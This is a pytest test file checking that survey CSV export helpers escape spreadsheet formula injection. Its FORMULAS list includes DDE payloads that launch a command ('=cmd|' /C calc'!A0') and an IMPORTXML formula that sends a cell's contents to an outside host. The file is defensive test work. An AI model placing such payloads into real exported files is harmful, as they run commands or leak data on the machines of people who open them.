import pytest

from privacy.tables.formula_texts import safe_text
from surveys.formats.csv_cells import cell_of, records_as_csv

# Texts that spreadsheets are known to run as formulas, and similar texts.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.org","x")',
    "=IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")",
]  # fmt: skip


HARMLESS = ["affair", "age=22 & late", "a-b", "1+1", "é=1", "affair, 'quoted' \"twice\""]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_escaped(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_unchanged(text: str) -> None:
    assert safe_text(text) == text


def test_csv_cells_are_escaped_and_follow_the_column_order() -> None:
    assert [cell_of(value) for value in (None, True, -0.5, "\r=1+1")] == ["", 1, -0.5, "'\r=1+1"]
    lines = list(records_as_csv(("b", "a"), [{"a": "=1", "b": None}]))
    assert lines == ["b,a\r\n", ",'=1\r\n"]


pytestmark = pytest.mark.django_db
